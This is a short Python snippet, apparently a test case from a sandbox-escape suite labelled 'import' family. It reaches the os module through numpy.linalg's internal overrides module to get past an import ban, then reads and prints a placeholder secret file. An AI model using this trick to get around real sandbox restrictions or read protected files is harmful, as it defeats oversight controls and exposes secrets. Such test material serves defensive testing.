# attack: three modules deep in numpy.linalg stands the os module
# family: import
import numpy.linalg
os = numpy.linalg.linalg.overrides.os
print("REACHED", os)
print(os.read(os.open("$SECRET_FILE", os.O_RDONLY), 4096))
